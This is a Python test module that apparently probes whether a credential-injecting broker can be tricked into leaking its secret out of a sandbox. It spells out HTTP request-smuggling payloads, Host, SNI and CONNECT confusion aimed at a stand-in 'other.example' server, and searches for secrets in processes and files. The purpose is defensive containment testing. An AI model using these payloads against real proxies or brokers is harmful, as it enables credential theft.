"""Ways to a secret that a broker adds outside of the sandbox, tried against an Internet of the attack's own.

A secret is bound to one host, which says it back in every way (bound_host.py). It got through if it is in what the
sandbox gets or has, or if it came to any other server; and so did a request that the broker must not take, if a word in
it has come to the host.
"""

import asyncio
import base64
import secrets
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Final

from warren_attack.probe import Group, Probe, ProbeResult, ProbeVerdict, contained, got_through, undecided
from warren_attack.warren.arena import Arena
from warren_attack.warren.bound_host import HEADER, HOST, NAME
from warren_attack.warren.outside import BOUND, FALSE_HOST, Outside
from warren_attack.warren.probes_egress import LISTED, WORD, encoded, hello, open_outside, request

_G: Final = Group.EGRESS
BROKER: Final = f"{NAME}.broker.internal"
_SETTLE_S: Final = 0.1
_CLOSE: Final = b"Connection: close"
_FINE: Final = b"Host: " + HOST.encode()


def get(path: bytes, *lines: bytes, host: str = HOST, body: bytes = b"", method: bytes = b"GET") -> bytes:
    fields = (b"Host: " + host.encode(), *lines, _CLOSE)
    return request(*fields, first=b"%b %b HTTP/1.1" % (method, path), body=body)


def post(path: bytes, *lines: bytes, body: bytes) -> bytes:
    return get(path, *lines, body=body, method=b"POST")


@dataclass(frozen=True, slots=True)
class Case:
    """WORD stands for a word that is used once. With `is_taken` the host must get the request, else the word must not
    come to it. Without `tls` the bytes go as they are."""

    id: str
    tries: str
    pieces: Sequence[bytes]
    host: str = HOST
    port: int = 443
    tls: bool = True
    is_taken: bool = False


def _backwards(outside: Outside) -> list[str]:
    return [base64.b64encode(trace).decode()[::-1] for trace in outside.bound.secret.traces]


def _leaked(outside: Outside) -> str:
    """Where the secret has come to, other than its host."""
    traces = outside.bound.secret.traces
    if any(trace in outside.received for trace in traces):
        return "the secret came to another server"
    if any(trace.decode() in name for trace in traces for name in outside.asked):
        return "the secret was in a name that was looked up"
    return ""


def _probe(case: Case) -> Probe[Arena]:
    async def run(arena: Arena) -> ProbeResult:
        outside = await open_outside(arena)
        if isinstance(outside, ProbeResult):
            return outside
        word = secrets.token_hex(8).encode()
        pieces = [encoded(piece.replace(WORD, word)) for piece in case.pieces]
        async with outside.opened(arena.sandbox, LISTED, outside.broker):
            outcome = await arena.inside(
                "broker:speak",
                host=case.host,
                port=case.port,
                pieces=pieces,
                tls=case.tls,
                backwards=_backwards(outside),
            )
            await asyncio.sleep(_SETTLE_S)
            leak, got = _leaked(outside), bytes(outside.bound.received)
        if leak or outcome.verdict is not ProbeVerdict.CONTAINED:
            return got_through(leak) if leak else outcome
        if not case.is_taken:
            return got_through(f"it came to the host: {got[:80]!r}") if word in got else outcome
        if outside.bound.secret.carried.encode() not in got:
            return undecided(f"the host did not get the request: {outcome.evidence}")
        return outcome

    return Probe(f"broker-{case.id}", _G, case.tries, run)


def _cases() -> Iterator[Case]:
    yield from _answers()
    yield from _hosts()
    yield from _requests()


def _answers() -> Iterator[Case]:
    """The host itself says the secret, and the sandbox must not hear it."""
    for path, how in (
        ("echo", "by repeating the request"),
        ("head", "in the head of its answer"),
        ("encoded", "in base64 and percent-encoded"),
        ("packed", "compressed"),
        ("chunks", "byte by byte, in chunks"),
        ("trailer", "after the last chunk"),
        ("early", "in an interim answer"),
        ("broken", "in an answer that is malformed"),
        ("nonsense", "in what is no answer"),
    ):
        yield Case(path, f"have the host say the secret {how}", [get(f"/{path}".encode())], is_taken=True)
    yield Case(
        "plain-echo", "the same, by the broker's own name", [get(b"/echo", host=BROKER)], *(BROKER, 80, False, True)
    )
    upgrade = b"Connection: Upgrade", b"Upgrade: websocket"
    switch = request(_FINE, *upgrade, first=b"GET /switch HTTP/1.1")
    yield Case("switch", "have it said in a WebSocket", [switch], is_taken=True)
    fragments = request(_FINE, *upgrade, first=b"GET /fragments HTTP/1.1")
    yield Case("fragments", "have it said in fragments of a WebSocket's message", [fragments], is_taken=True)
    parts = [request(_FINE, b"Range: bytes=%d-%d" % each, first=b"GET /range HTTP/1.1") for each in ((0, 15), (16, 99))]
    yield Case("range", "have it said in two parts of an answer", parts, is_taken=True)
    yield Case("redirect", "follow a redirect to another host", [get(b"/go")], is_taken=True)


def _hosts() -> Iterator[Case]:
    """Other hosts than the bound one, and other ways to it."""
    word = get(b"/WORD")
    for name, tries, first in (
        ("host-other", "name another Host", get(b"/WORD", host="other.example")),
        ("host-two", "name two Hosts", get(b"/WORD", b"Host: other.example")),
        ("host-none", "name no Host", request(_CLOSE)),
        ("host-port", "name another port", get(b"/WORD", host=f"{HOST}:8443")),
        ("host-user", "name a user before another Host", get(b"/WORD", host=f"{HOST}@other.example")),
        ("host-space", "hide another Host behind a space", get(b"/WORD", b"Host : other.example")),
        ("uri", "ask for the URI of another host", get(b"https://other.example/WORD")),
        ("uri-own", "ask for a URI that is whole", get(f"https://{HOST}/WORD".encode())),
        ("connect", "CONNECT to another host", get(b"other.example:443", method=b"CONNECT") + WORD),
        ("connect-own", "CONNECT to the bound host", get(f"{HOST}:443".encode(), method=b"CONNECT") + WORD),
    ):
        yield Case(name, f"{tries}, on a connection with the secret", [first])
    yield Case(
        "false", "reach a bound host whose certificate nobody vouches for", [get(b"/WORD", host=FALSE_HOST)], FALSE_HOST
    )
    yield Case("address", "reach the bound host by its address", [hello(HOST.encode()), WORD], BOUND, tls=False)
    yield Case("sni", "say another name in TLS", [hello(b"other.example"), WORD], tls=False)
    yield Case("no-tls", "speak HTTP on the port of TLS", [word], tls=False)
    yield Case("other-port", "reach the bound host on another port", [word], port=80, tls=False)
    yield Case("other-port-tls", "the same with TLS", [word], port=8080)
    yield Case("name-other-port", "reach the broker's own name on another port", [word], BROKER, 8080, tls=False)
    yield Case("name-tls", "reach the broker's own name with TLS", [get(b"/WORD", host=BROKER)], BROKER)
    yield Case("name-host", "name the bound host at the broker's own name", [word], BROKER, 80, tls=False)
    yield Case(
        "name-unknown", "reach another name of the broker", [get(b"/WORD", host="other.broker.internal")],
        *("other.broker.internal", 80, False),
    )  # fmt: skip


def _requests() -> Iterator[Case]:
    """Requests that two readers could understand differently: the broker ends the connection."""
    hidden = request(b"Host: other.example", _CLOSE)
    length, chunked, header = b"Content-Length: ", b"Transfer-Encoding: chunked", HEADER.encode()
    after = request(_FINE, length + b"1", first=b"POST / HTTP/1.1", body=b"x") + hidden
    for name, tries, pieces in (
        ("old", "HTTP/1.0", [get(b"/WORD").replace(b"HTTP/1.1", b"HTTP/1.0")]),
        ("h2", "HTTP/2 from the first byte", [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + WORD]),
        ("small", "a method in small letters", [get(b"/WORD", method=b"get")]),
        ("bare-lines", "lines that end in a newline only", [request(_FINE, end=b"\n")]),
        ("bare-return", "a line in a line, after a carriage return", [get(b"/WORD", b"X-A: 1\rX-B: 2")]),
        ("folded", "a line that goes on", [get(b"/WORD", b"X-A: 1", b" X-B: 2")]),
        ("nul", "a NUL byte in a line", [get(b"/WORD", b"X-A: \0")]),
        ("no-name", "a line without a name", [get(b"/WORD", b": 1")]),
        ("long", "a head without an end", [b"GET /WORD HTTP/1.1\r\nX-A: " + b"a" * 80_000]),
        ("lines", "very many lines", [get(b"/WORD", *(b"X-%d: 1" % number for number in range(400)))]),
        ("two-lengths", "two lengths", [post(b"/WORD", length + b"1", length + b"2", body=b"xx")]),
        ("signed-length", "a length with a sign", [post(b"/WORD", length + b"+1", body=b"x")]),
        ("length-list", "a list of lengths", [post(b"/WORD", length + b"1, 1", body=b"x")]),
        ("both", "a length and chunks", [post(b"/WORD", length + b"4", chunked, body=b"0\r\n\r\n")]),
        ("coding", "an unknown coding", [post(b"/WORD", b"Transfer-Encoding: xchunked", body=b"0\r\n\r\n")]),
        ("chunk", "a chunk without a length", [post(b"/", chunked, body=b"zz\r\nWORD\r\n0\r\n\r\n")]),
        ("chunk-long", "a chunk that is longer than it says", [post(b"/", chunked, body=b"1\r\nxWORD\r\n")]),
        ("pipelined", "another Host in the second request", [request(_FINE, first=b"GET / HTTP/1.1") + hidden]),
        ("after-body", "another Host after a body", [after]),
        ("own-header", "a value of its own", [get(b"/", header + b": WORD")]),
        ("own-header-case", "the same in other letters", [get(b"/", header.upper() + b": WORD")]),
        ("own-header-twin", "the same with underscores", [get(b"/", header.replace(b"-", b"_") + b": WORD")]),
        ("own-trailer", "the same after the last chunk", [post(b"/", chunked, body=b"0\r\n%b: WORD\r\n\r\n" % header)]),
    ):  # fmt: skip
        yield Case(f"request-{name}", f"send the host {tries}", pieces)


# -- others


async def _look(arena: Arena) -> ProbeResult:
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    backwards = _backwards(outside)
    async with outside.opened(arena.sandbox, LISTED, outside.broker):
        pieces = [encoded(get(b"/echo"))]
        used = await arena.inside("broker:speak", host=HOST, port=443, pieces=pieces, backwards=backwards)
        if used.verdict is not ProbeVerdict.CONTAINED or not outside.bound.received:
            return undecided(f"the secret was not used: {used.evidence}")
        return await arena.inside("broker:look", backwards=backwards)


async def _neighbour(arena: Arena) -> ProbeResult:
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    word, seen = secrets.token_hex(8).encode(), []
    async with (
        outside.opened(arena.sandbox, LISTED, outside.broker),
        outside.opened(arena.neighbour, LISTED),
    ):
        for host, port, tls in ((HOST, 443, True), (BROKER, 80, False)):
            pieces = [encoded(get(b"/WORD", host=host).replace(WORD, word))]
            outcome = await arena.inside(
                "broker:speak", box=arena.neighbour, host=host, port=port, pieces=pieces, tls=tls, backwards=[]
            )
            seen.append(outcome.evidence)
        if word in outside.bound.received:
            return got_through("another sandbox has used it")
    return contained("; ".join(seen))


async def _taken_away(arena: Arena) -> ProbeResult:
    """The secret is taken from the sandbox while a connection that carries it is open."""
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    word = secrets.token_hex(8).encode()
    first, second = (request(_FINE, first=b"GET /%b HTTP/1.1" % path) for path in (b"first", word))
    async with (
        outside.opened(arena.sandbox, LISTED, outside.broker) as network,
        arena.holding(
            arena.sandbox, "broker:keep", host=HOST, first=encoded(first), second=encoded(second), seconds=20
        ),
    ):
        await asyncio.sleep(0.5)
        came = word in outside.bound.received
        await network.set(LISTED)
        await asyncio.sleep(0.2)  # what was under way
        outside.bound.received.clear()
        await asyncio.sleep(1)
        if word in outside.bound.received:
            return got_through("requests go on with a secret that was taken away")
    return contained("the connection was cut") if came else undecided("the connection did not work before")


PROBES: tuple[Probe[Arena], ...] = (
    *map(_probe, _cases()),
    Probe("broker-look", _G, "look for the secret in variables, processes and files", _look),
    Probe("broker-neighbour", _G, "use the secret of another sandbox", _neighbour),
    Probe("broker-taken-away", _G, "go on using a secret that was taken away", _taken_away),
)
